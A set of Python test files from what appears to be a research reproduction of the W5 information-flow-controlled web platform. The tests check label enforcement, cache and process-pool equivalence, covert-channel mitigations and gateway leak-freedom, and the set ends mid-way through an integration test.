    send = st.tuples(st.just("send"), st.integers(0, 3), st.integers(0, 3),
                     st.integers(0, 5), st.integers(0, 5))
    recv = st.tuples(st.just("recv"), st.integers(0, 3))
    raise_ = st.tuples(st.just("raise"), st.integers(0, 3))
    lower = st.tuples(st.just("lower"), st.integers(0, 3))
    drop = st.tuples(st.just("drop"), st.integers(0, 3))
    return st.lists(st.one_of(endpoint, send, recv, raise_, lower, drop),
                    max_size=50)


class TestCachedKernelIsEquivalent:
    @settings(max_examples=100, deadline=None)
    @given(ops())
    def test_identical_histories_identical_outcomes(self, seed_ops):
        cached = Kernel(namespace="diff-c")
        uncached = Kernel(namespace="diff-u", flow_cache=FlowCache(enabled=False))
        assert cached.flow_cache.enabled
        assert not uncached.flow_cache.enabled

        tc, procs_c = build_system(cached)
        tu, procs_u = build_system(uncached)
        eps_c = {p.pid: [] for p in procs_c}
        eps_u = {p.pid: [] for p in procs_u}

        for op in seed_ops:
            out_c = apply_op(cached, tc, procs_c, eps_c, op)
            out_u = apply_op(uncached, tu, procs_u, eps_u, op)
            assert out_c == out_u, f"divergence on {op}"

        # final states agree too
        for pc, pu in zip(procs_c, procs_u):
            assert pc.slabel == pu.slabel
            assert pc.ilabel == pu.ilabel
            assert pc.caps == pu.caps
            assert [m.payload for m in pc.mailbox] == \
                [m.payload for m in pu.mailbox]
            assert sorted(ep.closed for ep in pc.endpoints.values()) == \
                sorted(ep.closed for ep in pu.endpoints.values())


class TestInvalidationRegression:
    """A verdict cached before a label-change syscall is never replayed."""

    def test_raise_label_flips_cached_ipc_deny(self):
        kernel = Kernel()
        root = kernel.spawn_trusted("root")
        t = kernel.create_tag(root, purpose="secret")
        src = kernel.spawn_trusted("src", slabel=Label([t]))
        dst = kernel.spawn_trusted("dst", caps=CapabilitySet([plus(t)]))
        out = kernel.create_endpoint(src, direction=SEND)
        inbox = kernel.create_endpoint(dst, direction=RECV)

        from repro.labels import SecrecyViolation
        import pytest
        with pytest.raises(SecrecyViolation):
            kernel.send(src, out, inbox, "secret")
        # dst raises its label: old endpoint is below reach now refused
        # to exist? no — raising keeps Label([t]) within reach, and the
        # endpoint stays legal only if within [S-D-, S+D+]; redeclare.
        kernel.change_label(dst, secrecy=Label([t]))
        inbox2 = kernel.create_endpoint(dst, direction=RECV)
        kernel.send(src, out, inbox2, "secret")  # must NOT replay the deny
        assert kernel.receive(dst).payload == "secret"

    def test_storage_verdict_invalidated_on_label_change(self):
        from repro.core import access
        kernel = Kernel()
        root = kernel.spawn_trusted("root")
        t = kernel.create_tag(root, purpose="secret")
        reader = kernel.spawn_trusted("reader",
                                      caps=CapabilitySet([plus(t)]))
        obj_s, obj_i = Label([t]), Label.EMPTY

        assert not access.readable(reader, obj_s, obj_i,
                                   cache=kernel.flow_cache)
        kernel.change_label(reader, secrecy=Label([t]))
        assert access.readable(reader, obj_s, obj_i,
                               cache=kernel.flow_cache)
        stats = kernel.flow_cache.stats()
        assert stats["invalidations"].get("label-change", 0) >= 1

    def test_drop_caps_invalidates_write_verdict(self):
        from repro.core import access
        kernel = Kernel()
        root = kernel.spawn_trusted("root")
        t = kernel.create_tag(root, purpose="secret")
        writer = kernel.spawn_trusted("writer", slabel=Label([t]),
                                      caps=CapabilitySet([minus(t)]))
        obj_s, obj_i = Label.EMPTY, Label.EMPTY

        # t- lets the tainted writer write down into a public object
        assert access.writable(writer, obj_s, obj_i,
                               cache=kernel.flow_cache)
        kernel.drop_caps(writer, [minus(t)])
        assert not access.writable(writer, obj_s, obj_i,
                                   cache=kernel.flow_cache)
        assert kernel.flow_cache.stats()["invalidations"].get(
            "drop-caps", 0) >= 1

    def test_create_tag_invalidates(self):
        from repro.core import access
        kernel = Kernel()
        root = kernel.spawn_trusted("root")
        t = kernel.create_tag(root, purpose="secret")
        p = kernel.spawn_trusted("p")
        assert not access.readable(p, Label([t]), Label.EMPTY,
                                   cache=kernel.flow_cache)
        # minting a tag grants ownership: p can now read its own tag's
        # data via owned-tag extension — but the verdict above was for
        # t, which p still cannot read; mint then grant scenario:
        u = kernel.create_tag(p, purpose="mine")
        assert access.readable(p, Label([u]), Label.EMPTY,
                               cache=kernel.flow_cache)
        assert kernel.flow_cache.stats()["invalidations"].get(
            "create-tag", 0) >= 1
