"""Tests for the Asbestos-style floating-label ablation mode."""

import pytest

from repro.kernel import Kernel, RECV, SEND
from repro.labels import Label, SecrecyViolation


def tainted_sender_world(floating):
    kernel = Kernel(floating_labels=floating)
    root = kernel.spawn_trusted("root")
    t = kernel.create_tag(root, purpose="secret")
    sender = kernel.spawn_trusted("tainted", slabel=Label([t]))
    receiver = kernel.spawn_trusted("clean")
    out = kernel.create_endpoint(sender, direction=SEND)
    inbox = kernel.create_endpoint(receiver, direction=RECV)
    return kernel, t, sender, receiver, out, inbox


class TestFloatingMode:
    def test_default_mode_refuses(self):
        kernel, t, sender, receiver, out, inbox = \
            tainted_sender_world(floating=False)
        with pytest.raises(SecrecyViolation):
            kernel.send(sender, out, inbox, "secret")

    def test_floating_mode_absorbs_taint(self):
        kernel, t, sender, receiver, out, inbox = \
            tainted_sender_world(floating=True)
        kernel.send(sender, out, inbox, "secret")
        msg = kernel.receive(receiver)
        assert msg.payload == "secret"
        assert t in receiver.slabel  # the receiver floated up

    def test_floated_receiver_is_now_confined(self):
        """Safety is preserved: the floated receiver can no longer
        send to clean processes either."""
        kernel, t, sender, receiver, out, inbox = \
            tainted_sender_world(floating=True)
        kernel.send(sender, out, inbox, "secret")
        kernel.receive(receiver)
        third = kernel.spawn_trusted("third")
        third_in = kernel.create_endpoint(third, direction=RECV)
        # receiver's old endpoint floated with it, but a *clean-labeled*
        # destination still refuses unless it floats too; forward taint:
        recv_out = kernel.create_endpoint(receiver, direction=SEND)
        kernel.send(receiver, recv_out, third_in, "relay")
        kernel.receive(third)
        assert t in third.slabel  # creep continues, but never leaks

    def test_taint_creep_is_monotone(self):
        """The ablation's point: after a gossip round, everyone who
        ever heard from a tainted peer is tainted."""
        kernel = Kernel(floating_labels=True)
        root = kernel.spawn_trusted("root")
        t = kernel.create_tag(root)
        procs = [kernel.spawn_trusted("p0", slabel=Label([t]))]
        procs += [kernel.spawn_trusted(f"p{i}") for i in range(1, 6)]
        endpoints = [(kernel.create_endpoint(p, direction=SEND),
                      kernel.create_endpoint(p, direction=RECV))
                     for p in procs]
        # chain: p0 -> p1 -> ... -> p5
        for i in range(5):
            kernel.send(procs[i], endpoints[i][0], endpoints[i + 1][1],
                        f"hop{i}")
            kernel.receive(procs[i + 1])
        assert all(t in p.slabel for p in procs)

    def test_integrity_still_enforced_when_floating(self):
        kernel = Kernel(floating_labels=True)
        root = kernel.spawn_trusted("root")
        i_tag = kernel.create_tag(root, kind="integrity")
        from repro.labels import CapabilitySet, IntegrityViolation, plus
        sender = kernel.spawn_trusted("unendorsed")
        receiver = kernel.spawn_trusted(
            "picky", ilabel=Label([i_tag]),
            caps=CapabilitySet([plus(i_tag)]))
        out = kernel.create_endpoint(sender, direction=SEND)
        inbox = kernel.create_endpoint(receiver, direction=RECV,
                                       ilabel=Label([i_tag]))
        with pytest.raises(IntegrityViolation):
            kernel.send(sender, out, inbox, "untrusted")

    def test_float_events_audited(self):
        kernel, t, sender, receiver, out, inbox = \
            tainted_sender_world(floating=True)
        kernel.send(sender, out, inbox, "x")
        floats = [e for e in kernel.audit
                  if e.category == "label_change" and "floated" in e.detail]
        assert len(floats) == 1
