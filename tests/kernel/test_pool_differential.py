"""Differential property test: process recycling changes nothing.

Two full deployments — one with the app-process pool on, one with it
off — are driven through the *same* randomly generated request history.
Every HTTP response must agree (status and body, with numeric ids
masked), and the audit stream must tell the same story: identical
(category, verdict) counts, the same number of launches, the same
denials.  Hypothesis shrinks any divergence to a minimal witness —
the same methodology PR 1 used for the flow cache
(``tests/kernel/test_cache_differential.py``), one layer up.

A second class pins the taint-safety contract directly at the pool:
a process whose secrecy label floated during a request is never
returned to the free list.
"""

import re
from collections import Counter

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.core import W5System
from repro.platform import ProviderConfig
from repro.kernel import Kernel
from repro.labels import CapabilitySet, Label, plus

USERS = ("alice", "bob", "carol")
APPS = ("blog", "photo-share", "social")


def build_deployment(recycle: bool) -> W5System:
    w5 = W5System(name=f"pool-{'on' if recycle else 'off'}",
                  config=ProviderConfig(recycle_processes=recycle))
    for user in USERS:
        w5.add_user(user, apps=APPS)
    w5.befriend("alice", "bob")
    return w5


def apply_op(w5: W5System, op) -> tuple:
    """Run one request; return a comparable (masked) outcome record."""
    kind = op[0]
    if kind == "post":
        _, ui, i = op
        user = USERS[ui % len(USERS)]
        r = w5.client(user).get("/app/blog/post",
                                title=f"t{i}", body=f"b{i}")
    elif kind == "read":
        _, ui, vi, i = op
        author = USERS[ui % len(USERS)]
        viewer = USERS[vi % len(USERS)]
        r = w5.client(viewer).get("/app/blog/read",
                                  author=author, title=f"t{i}")
    elif kind == "list":
        _, ui, vi = op
        author = USERS[ui % len(USERS)]
        viewer = USERS[vi % len(USERS)]
        r = w5.client(viewer).get("/app/blog/list", author=author)
    elif kind == "anon":
        r = w5.anonymous_client().get("/app/blog/list", author="alice")
    elif kind == "toggle":
        _, ui, on = op
        user = USERS[ui % len(USERS)]
        path = "/policy/enable" if on else "/policy/disable"
        r = w5.client(user).post(path, params={"app": "blog"})
    elif kind == "befriend":
        _, ui, vi = op
        a, b = USERS[ui % len(USERS)], USERS[vi % len(USERS)]
        if a == b:
            return ("skip",)
        w5.befriend(a, b)
        return ("befriended",)
    else:
        return ("noop",)
    # kernel-assigned ids may drift between deployments once pooling
    # changes process lifetimes; compare the shape, not the numbers
    return (r.status, re.sub(r"\d+", "#", str(r.body)))


def ops():
    post = st.tuples(st.just("post"), st.integers(0, 2), st.integers(0, 3))
    read = st.tuples(st.just("read"), st.integers(0, 2), st.integers(0, 2),
                     st.integers(0, 3))
    list_ = st.tuples(st.just("list"), st.integers(0, 2), st.integers(0, 2))
    anon = st.tuples(st.just("anon"))
    toggle = st.tuples(st.just("toggle"), st.integers(0, 2), st.booleans())
    befriend = st.tuples(st.just("befriend"), st.integers(0, 2),
                         st.integers(0, 2))
    return st.lists(st.one_of(post, read, list_, anon, toggle, befriend),
                    max_size=25)


def audit_story(w5: W5System) -> Counter:
    return Counter((e.category, e.allowed)
                   for e in w5.provider.kernel.audit)


class TestPooledDeploymentIsEquivalent:
    @settings(max_examples=30, deadline=None)
    @given(ops())
    def test_identical_histories_identical_outcomes(self, seed_ops):
        pooled = build_deployment(recycle=True)
        unpooled = build_deployment(recycle=False)
        assert pooled.provider.kernel.pool.enabled
        assert not unpooled.provider.kernel.pool.enabled
        baseline_p = audit_story(pooled)
        baseline_u = audit_story(unpooled)
        assert baseline_p == baseline_u  # setup already agrees

        for op in seed_ops:
            out_p = apply_op(pooled, op)
            out_u = apply_op(unpooled, op)
            assert out_p == out_u, f"divergence on {op}"

        # the decision streams agree event-for-event by category
        assert audit_story(pooled) == audit_story(unpooled)

        # and no pooled process ever sits idle with residual taint
        pool = pooled.provider.kernel.pool
        for (name, slabel, ilabel, caps), bucket in pool._idle.items():
            for proc in bucket:
                assert proc.slabel == slabel
                assert proc.ilabel == ilabel
                assert proc.caps == caps


class TestTaintSafety:
    def _kernel(self):
        kernel = Kernel(recycle=True)
        root = kernel.spawn_trusted("root")
        tag = kernel.create_tag(root, purpose="secret")
        return kernel, tag

    def test_clean_process_is_recycled_and_reused(self):
        kernel, tag = self._kernel()
        caps = CapabilitySet([plus(tag)])
        p = kernel.pool.checkout("app:x", caps=caps)
        assert kernel.pool.release(p) is True
        assert p.alive
        assert kernel.pool.idle_count("app:x") == 1
        q = kernel.pool.checkout("app:x", caps=caps)
        assert q.pid == p.pid
        assert kernel.pool.reuses == 1

    def test_tainted_process_is_never_pooled(self):
        kernel, tag = self._kernel()
        caps = CapabilitySet([plus(tag)])
        p = kernel.pool.checkout("app:x", caps=caps)
        kernel.change_label(p, secrecy=Label([tag]))  # the read taints
        assert kernel.pool.release(p) is False
        assert not p.alive
        assert kernel.pool.idle_count("app:x") == 0
        assert kernel.pool.rejected_tainted == 1
        # the next checkout must be a fresh, untainted process
        q = kernel.pool.checkout("app:x", caps=caps)
        assert q.pid != p.pid
        assert q.slabel.is_empty()

    def test_cap_shift_is_never_pooled(self):
        from repro.labels import minus
        kernel, tag = self._kernel()
        caps = CapabilitySet([plus(tag), minus(tag)])
        p = kernel.pool.checkout("app:x", caps=caps)
        kernel.drop_caps(p, [minus(tag)])
        assert kernel.pool.release(p) is False
        assert kernel.pool.rejected_tainted == 1

    def test_launch_key_mismatch_goes_to_its_own_bucket(self):
        kernel, tag = self._kernel()
        p = kernel.pool.checkout("app:x", caps=CapabilitySet([plus(tag)]))
        kernel.pool.release(p)
        # different caps -> different key -> no reuse of p
        q = kernel.pool.checkout("app:x", caps=CapabilitySet.EMPTY)
        assert q.pid != p.pid

    def test_release_scrubs_request_state(self):
        kernel, tag = self._kernel()
        p = kernel.pool.checkout("app:x")
        kernel.create_endpoint(p)
        p.locals["scratch"] = "secretish"
        kernel.pool.release(p)
        assert not p.endpoints
        assert not p.locals
        assert not p.mailbox

    def test_disabled_pool_is_passthrough(self):
        kernel = Kernel(recycle=False)
        p = kernel.pool.checkout("app:x")
        assert kernel.pool.release(p) is False
        assert not p.alive
        assert kernel.pool.idle_count() == 0

    def test_audit_counts_match_spawn_exit(self):
        kernel, tag = self._kernel()
        before_spawn = kernel.audit.count(category="spawn", allowed=True)
        before_exit = kernel.audit.count(category="exit", allowed=True)
        p = kernel.pool.checkout("app:x")
        kernel.pool.release(p)
        q = kernel.pool.checkout("app:x")  # reuse
        kernel.pool.release(q)
        assert kernel.audit.count(category="spawn", allowed=True) \
            == before_spawn + 2
        assert kernel.audit.count(category="exit", allowed=True) \
            == before_exit + 2
