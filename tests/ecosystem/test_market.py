"""Unit tests for the anti-social-app market model."""

import pytest

from repro.ecosystem import compare_editorial_controls, simulate_market


class TestMarket:
    def test_deterministic(self):
        a = simulate_market(seed=2)
        b = simulate_market(seed=2)
        assert a.share_by_step == b.share_by_step

    def test_population_conserved(self):
        outcome = simulate_market(population=1000, n_apps=10, seed=3)
        assert sum(a.users for a in outcome.apps) == 1000

    def test_shares_are_fractions(self):
        outcome = simulate_market(seed=4)
        assert all(0.0 <= s <= 1.0 for s in outcome.share_by_step)

    def test_at_least_one_antisocial_app(self):
        outcome = simulate_market(antisocial_fraction=0.0, seed=5)
        assert any(a.antisocial for a in outcome.apps)

    def test_editors_flag_antisocial_apps_only(self):
        outcome = simulate_market(editorial_controls=True, steps=80,
                                  seed=6)
        assert all(a.antisocial for a in outcome.apps if a.flagged)
        assert any(a.flagged for a in outcome.apps)

    def test_no_flags_without_editors(self):
        outcome = simulate_market(editorial_controls=False, seed=6)
        assert not any(a.flagged for a in outcome.apps)

    def test_editorial_controls_reduce_antisocial_share(self):
        """The §3.2 claim's direction, on the same market."""
        outcomes = compare_editorial_controls(seed=41)
        assert (outcomes["with editors"].final_antisocial_share
                < outcomes["without editors"].final_antisocial_share)

    def test_lock_in_helps_when_unpoliced(self):
        """Without editors, lock-in retention pushes anti-social share
        above its initial fraction — the failure mode W5 inherits from
        today's desktops, absent editorial pressure."""
        outcome = simulate_market(editorial_controls=False, steps=60,
                                  antisocial_fraction=0.3, seed=41)
        initial = outcome.share_by_step[0]
        assert outcome.final_antisocial_share >= initial * 0.9
