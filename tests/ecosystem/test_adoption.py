"""Unit tests for the adoption model."""

import pytest

from repro.ecosystem import (compare_platforms, conversion_friction,
                             simulate_adoption)


class TestFriction:
    def test_zero_items_is_frictionless(self):
        assert conversion_friction(0) == 1.0

    def test_friction_decays_with_items(self):
        assert conversion_friction(10) < conversion_friction(5) < 1.0

    def test_negative_items_clamped(self):
        assert conversion_friction(-3) == 1.0


class TestSimulation:
    def test_curve_monotone(self):
        curve = simulate_adoption(population=200, steps=30)
        counts = curve.adopters_by_step
        assert all(a <= b for a, b in zip(counts, counts[1:]))

    def test_deterministic_with_seed(self):
        a = simulate_adoption(seed=4)
        b = simulate_adoption(seed=4)
        assert a.adopters_by_step == b.adopters_by_step

    def test_zero_friction_never_adopts(self):
        curve = simulate_adoption(population=100, steps=20, friction=0.0)
        assert curve.final_share == 0.0

    def test_bad_friction_rejected(self):
        with pytest.raises(ValueError):
            simulate_adoption(friction=1.5)

    def test_time_to_fraction(self):
        curve = simulate_adoption(population=500, steps=80, friction=1.0,
                                  seed=2)
        t_half = curve.time_to_fraction(0.5)
        assert t_half is not None
        t_tenth = curve.time_to_fraction(0.1)
        assert t_tenth is not None and t_tenth <= t_half

    def test_time_to_fraction_unreached(self):
        curve = simulate_adoption(population=100, steps=3, friction=0.01)
        assert curve.time_to_fraction(0.9) is None


class TestComparison:
    def test_w5_adopts_faster(self):
        """The C7 shape: same app, same crowd — the checkbox platform
        reaches critical mass first."""
        curves = compare_platforms(population=800, steps=80,
                                   items_to_migrate=25)
        t_w5 = curves["w5"].time_to_fraction(0.5)
        t_silo = curves["status-quo"].time_to_fraction(0.5)
        assert t_w5 is not None
        assert t_silo is None or t_silo > t_w5

    def test_final_share_ordering(self):
        curves = compare_platforms(population=400, steps=40,
                                   items_to_migrate=40)
        assert curves["w5"].final_share > curves["status-quo"].final_share
