"""Unit tests for the covert-channel harness."""

import math
import random

import pytest

from repro.covert import (FAILSTOP, FILTERED, StorageChannel,
                          binary_channel_capacity, timing_probe)


class TestCapacityMath:
    def test_perfect_channel(self):
        assert binary_channel_capacity(0.0) == 1.0

    def test_inverted_channel_still_perfect(self):
        assert binary_channel_capacity(1.0) == 1.0

    def test_coin_flip_channel_useless(self):
        assert binary_channel_capacity(0.5) == pytest.approx(0.0, abs=1e-12)

    def test_monotone_toward_half(self):
        assert binary_channel_capacity(0.1) > binary_channel_capacity(0.3)

    def test_clamps_out_of_range(self):
        assert binary_channel_capacity(-0.5) == 1.0
        assert binary_channel_capacity(1.5) == 1.0


class TestStorageChannel:
    def _bits(self, n=32, seed=5):
        rng = random.Random(seed)
        return [rng.randint(0, 1) for __ in range(n)]

    def test_failstop_leaks_perfectly(self):
        bits = self._bits()
        report = StorageChannel().transmit(bits, FAILSTOP)
        assert report.received == bits
        assert report.error_rate == 0.0
        assert report.capacity_bits_per_query == 1.0

    def test_filtered_leaks_nothing(self):
        bits = self._bits()
        report = StorageChannel().transmit(bits, FILTERED)
        assert all(r == 0 for r in report.received)
        # the receiver's view is constant: whatever was sent, it
        # decodes all-zeros — information transferred is zero even
        # though the raw "error rate" equals the density of 1s
        assert set(report.received) == {0}

    def test_all_zero_message_indistinguishable(self):
        """The filtered receiver cannot tell an all-zeros transmission
        from any other transmission."""
        a = StorageChannel().transmit([0] * 16, FILTERED)
        b = StorageChannel().transmit([1] * 16, FILTERED)
        assert a.received == b.received

    def test_unknown_semantics_rejected(self):
        with pytest.raises(ValueError):
            StorageChannel().transmit([1], "optimistic")

    def test_report_error_counting(self):
        report = StorageChannel().transmit([1, 0, 1, 1], FILTERED)
        assert report.errors == 3
        assert report.error_rate == 0.75


class TestTimingProbe:
    def test_full_scan_reveals_invisible_rows(self):
        with_secrets = timing_probe(invisible_rows=50)
        without = timing_probe(invisible_rows=0)
        assert (with_secrets["full_scan_rows_touched"]
                > without["full_scan_rows_touched"])

    def test_indexed_scan_hides_invisible_rows(self):
        with_secrets = timing_probe(invisible_rows=50)
        without = timing_probe(invisible_rows=0)
        assert (with_secrets["indexed_rows_touched"]
                == without["indexed_rows_touched"])

    def test_probe_reports_configuration(self):
        report = timing_probe(invisible_rows=7, visible_rows=3)
        assert report["invisible_rows"] == 7.0
        assert report["visible_rows"] == 3.0

    def test_padding_closes_full_scan_channel(self):
        """With pad_scan_to, the full-scan cost is identical whatever
        the adversary hid — the complete mitigation."""
        padded_with = timing_probe(invisible_rows=50, pad_scan_to=500)
        padded_without = timing_probe(invisible_rows=0, pad_scan_to=500)
        assert (padded_with["full_scan_rows_touched"]
                == padded_without["full_scan_rows_touched"] == 500)

    def test_padding_does_not_tax_indexed_queries(self):
        report = timing_probe(invisible_rows=50, pad_scan_to=500)
        assert report["indexed_rows_touched"] == 10


class TestPartitionedEngineRegression:
    """C10 must hold on the label-partitioned engine exactly as it does
    on the naive one: skipping invisible partitions wholesale may not
    change what a timing adversary can observe."""

    def test_both_engines_report_identical_costs(self):
        for kwargs in ({"invisible_rows": 50},
                       {"invisible_rows": 0},
                       {"invisible_rows": 50, "pad_scan_to": 500},
                       {"invisible_rows": 50, "invisible_labels": 8}):
            fast = timing_probe(partitioned=True, **kwargs)
            naive = timing_probe(partitioned=False, **kwargs)
            assert fast == naive, f"engines diverge for {kwargs}"

    def test_padded_cost_independent_of_invisible_partitions(self):
        """The padded full-scan charge may not vary with how many
        invisible partitions exist or how full they are."""
        costs = {
            timing_probe(invisible_rows=rows, invisible_labels=labels,
                         pad_scan_to=500,
                         partitioned=True)["full_scan_rows_touched"]
            for rows, labels in ((0, 1), (50, 1), (50, 8), (128, 16))}
        assert costs == {500.0}

    def test_unpadded_partition_skip_still_charges_invisible_rows(self):
        """Without padding the partitioned engine *still* charges for
        rows in skipped partitions — the scan-cost observable matches
        the naive engine rather than leaking partition visibility."""
        report = timing_probe(invisible_rows=50, invisible_labels=4,
                              partitioned=True)
        assert report["full_scan_rows_touched"] == 60
