"""Scale smoke tests: the invariants hold on a larger world."""

import pytest

from repro import W5System
from repro.workloads import make_social_world, make_trace


@pytest.mark.slow
class TestScale:
    def test_fifty_users_five_hundred_requests(self):
        world = make_social_world(n_users=50, photos_per_user=1,
                                  posts_per_user=1, seed=99)
        w5 = W5System()
        w5.load_world(world)
        trace = make_trace(world.users, 500, seed=4)
        served = refused = 0
        for request in trace:
            path, params = request.path_and_params()
            r = w5.client(request.viewer).get(path, **params)
            if r.ok:
                served += 1
            elif r.status == 403:
                refused += 1
        assert served + refused == len(trace)

        # spot-check the leak oracle across the whole population
        for user in world.users[:10]:
            secret = world.photos[user][0]["bytes"]
            allowed = set(world.friend_list(user)) | {user}
            for other in world.users:
                if other in allowed:
                    continue
                assert not w5.client(other).ever_received(secret), (
                    user, other)

    def test_tag_space_scales(self):
        """100 users = 200 tags; label ops stay correct at that size."""
        w5 = W5System()
        for i in range(100):
            w5.add_user(f"user{i:03d}")
        assert len(w5.provider.usernames()) == 100
        tags = {w5.provider.account(f"user{i:03d}").data_tag.tag_id
                for i in range(100)}
        assert len(tags) == 100  # all distinct

    def test_deep_label_compositions(self):
        """A process tainted with 100 tags still round-trips checks."""
        from repro.labels import Label
        w5 = W5System()
        users = [w5.add_user(f"u{i}") and f"u{i}" for i in range(100)]
        all_tags = [w5.provider.account(u).data_tag for u in users]
        proc = w5.provider.kernel.spawn_trusted(
            "wide", slabel=Label(all_tags))
        assert len(proc.slabel) == 100
        # export needs all 100 authorities; no viewer has them
        from repro.net import ExportViolation
        with pytest.raises(ExportViolation):
            w5.provider.gateway.export_check(proc.slabel, "u0")
