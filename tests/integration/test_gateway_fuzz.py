"""Property test: the perimeter is sound under fuzzed request streams.

Hypothesis drives random populations, random friendships, random app
requests (benign and adversarial) from random viewers, and asserts the
global soundness invariant after every run: a client received a byte of
some owner's secret only if, at that moment, the owner was the viewer
or the owner's declassifier approved them.
"""

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from repro import W5System

USERS = ["u0", "u1", "u2", "u3"]
APPS = ["photo-share", "blog", "social", "data-thief"]


def secret_of(user: str) -> str:
    return f"SECRET-{user}-PAYLOAD"


@st.composite
def scenarios(draw):
    friendships = draw(st.sets(
        st.tuples(st.sampled_from(USERS), st.sampled_from(USERS))
        .filter(lambda p: p[0] < p[1]), max_size=6))
    enablements = draw(st.sets(
        st.tuples(st.sampled_from(USERS), st.sampled_from(APPS)),
        max_size=12))
    request = st.tuples(st.sampled_from(USERS),       # viewer
                        st.sampled_from(APPS),        # app
                        st.sampled_from(USERS))       # target owner
    requests = draw(st.lists(request, max_size=15))
    return friendships, enablements, requests


class TestGatewayFuzz:
    @settings(max_examples=40, deadline=None,
              suppress_health_check=[HealthCheck.too_slow])
    @given(scenarios())
    def test_no_unauthorized_bytes_ever_exit(self, scenario):
        friendships, enablements, requests = scenario
        friends_of = {u: set() for u in USERS}
        for a, b in friendships:
            friends_of[a].add(b)
            friends_of[b].add(a)

        w5 = W5System(with_adversaries=True)
        for u in USERS:
            w5.add_user(u, friends=sorted(friends_of[u]))
            w5.provider.store_user_data(u, "secret.txt", secret_of(u))
        for u, app in enablements:
            w5.provider.enable_app(u, app)

        for viewer, app, owner in requests:
            client = w5.client(viewer)
            if app == "photo-share":
                client.get(f"/app/{app}/view", owner=owner,
                           filename="secret.txt")
                client.get(f"/app/{app}/list", owner=owner)
            elif app == "blog":
                client.get(f"/app/{app}/list", author=owner)
            elif app == "social":
                client.get(f"/app/{app}/profile", user=owner)
            else:  # the thief
                client.get(f"/app/{app}/go", victim=owner)

        # global soundness: received secrets imply authorization
        for owner in USERS:
            authorized = friends_of[owner] | {owner}
            for viewer in USERS:
                if viewer in authorized:
                    continue
                assert not w5.client(viewer).ever_received(
                    secret_of(owner)), (
                    f"{viewer} obtained {owner}'s secret without "
                    f"authorization (friends={friends_of[owner]})")

    @settings(max_examples=25, deadline=None,
              suppress_health_check=[HealthCheck.too_slow])
    @given(scenarios())
    def test_anonymous_never_receives_secrets(self, scenario):
        friendships, enablements, requests = scenario
        w5 = W5System(with_adversaries=True)
        for u in USERS:
            w5.add_user(u)
            w5.provider.store_user_data(u, "secret.txt", secret_of(u))
        for u, app in enablements:
            w5.provider.enable_app(u, app)
        anon = w5.anonymous_client()
        for __, app, owner in requests:
            anon.get(f"/app/{app}/view", owner=owner,
                     filename="secret.txt")
            anon.get(f"/app/{app}/go", victim=owner)
        for owner in USERS:
            assert not anon.ever_received(secret_of(owner))

    @settings(max_examples=25, deadline=None,
              suppress_health_check=[HealthCheck.too_slow])
    @given(scenarios())
    def test_every_refusal_is_audited(self, scenario):
        """Every 403 the fuzz run produces corresponds to at least one
        DENY record in the audit log (no silent refusals)."""
        friendships, enablements, requests = scenario
        w5 = W5System(with_adversaries=True)
        for u in USERS:
            w5.add_user(u)
            w5.provider.store_user_data(u, "secret.txt", secret_of(u))
        for u, app in enablements:
            w5.provider.enable_app(u, app)
        refusals = 0
        for viewer, app, owner in requests:
            r = w5.client(viewer).get(f"/app/{app}/view", owner=owner,
                                      filename="secret.txt")
            if r.status == 403:
                refusals += 1
        denies = (w5.audit().count(category="export", allowed=False)
                  + w5.audit().count(category="file_read", allowed=False)
                  + w5.audit().count(category="label_change",
                                     allowed=False))
        assert denies >= refusals
