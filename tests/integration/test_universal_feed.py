"""Tests for the provider's value-level universal feed (/feed)."""

import pytest

from repro import W5System


@pytest.fixture()
def world():
    w5 = W5System()
    bob = w5.add_user("bob", apps=["blog"], friends=["amy"])
    amy = w5.add_user("amy", apps=["blog"], friends=["bob"])
    eve = w5.add_user("eve", apps=["blog"])
    bob.get("/app/blog/post", title="bob-1", body="x")
    amy.get("/app/blog/post", title="amy-1", body="y")
    eve.get("/app/blog/post", title="eve-1", body="z")
    return w5, bob, amy, eve


class TestUniversalFeed:
    def test_viewer_gets_authorized_subset(self, world):
        w5, bob, amy, eve = world
        r = bob.get("/feed")
        assert r.ok
        authors = {item["author"] for item in r.body["feed"]}
        # bob sees his own and amy's (friend), not eve's
        assert authors == {"bob", "amy"}
        assert r.body["withheld"] == 1

    def test_partial_delivery_not_403(self, world):
        """The A2 payoff in the live platform: mixed provenance no
        longer collapses to all-or-nothing."""
        w5, bob, amy, eve = world
        r = bob.get("/feed")
        assert r.status == 200
        assert len(r.body["feed"]) == 2

    def test_stranger_sees_only_own(self, world):
        w5, bob, amy, eve = world
        r = eve.get("/feed")
        assert {i["author"] for i in r.body["feed"]} == {"eve"}
        assert r.body["withheld"] == 2

    def test_anonymous_sees_nothing_private(self, world):
        w5, *_ = world
        anon = w5.anonymous_client()
        r = anon.get("/feed")
        assert r.ok
        assert r.body["feed"] == []
        assert r.body["withheld"] == 3

    def test_no_bodies_only_titles(self, world):
        """The universal feed deliberately exposes titles/authors, not
        bodies (metadata postured like the guestbook's markers)."""
        w5, bob, *_ = world
        r = bob.get("/feed")
        assert all(set(item) == {"author", "title"}
                   for item in r.body["feed"])

    def test_empty_platform(self):
        w5 = W5System()
        anon = w5.anonymous_client()
        r = anon.get("/feed")
        assert r.ok and r.body["feed"] == []

    def test_k_limits(self, world):
        w5, bob, *_ = world
        r = bob.get("/feed", k=1)
        assert len(r.body["feed"]) == 1
