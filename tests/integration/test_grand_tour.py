"""The grand tour: one scenario through every subsystem at once.

A provider with quotas and rate limits hosts a loaded social world;
friends browse, adversaries attack, a user composes policies, the
provider restarts from snapshot, and a peer provider mirrors an
account — with the leak oracle and the audit log checked at the end.
If a cross-subsystem interaction is broken, this is where it shows.
"""

import json

import pytest

from repro import W5System
from repro.apps import STANDARD_CATALOG, ADVERSARIAL_CATALOG
from repro.core import Metrics
from repro.declassify import AllOf, FriendsOnly, TimeEmbargo
from repro.federation import ProviderLink
from repro.platform import (Provider, restore_provider, set_password,
                            snapshot_provider)
from repro.workloads import make_social_world, make_trace

SECRET_PREFIX = "GRAND-TOUR-SECRET-"


@pytest.mark.slow
class TestGrandTour:
    def test_everything_together(self):
        # --- build: quotas + adversaries + a loaded world -------------
        world = make_social_world(n_users=8, photos_per_user=1,
                                  posts_per_user=1, seed=77)
        w5 = W5System(
            with_adversaries=True,
            quota_overrides={"app:resource-hog": {"syscalls": 50}})
        metrics = Metrics(w5.audit())
        w5.load_world(world)
        for user in world.users:
            w5.provider.store_user_data(user, "secret.txt",
                                        SECRET_PREFIX + user)

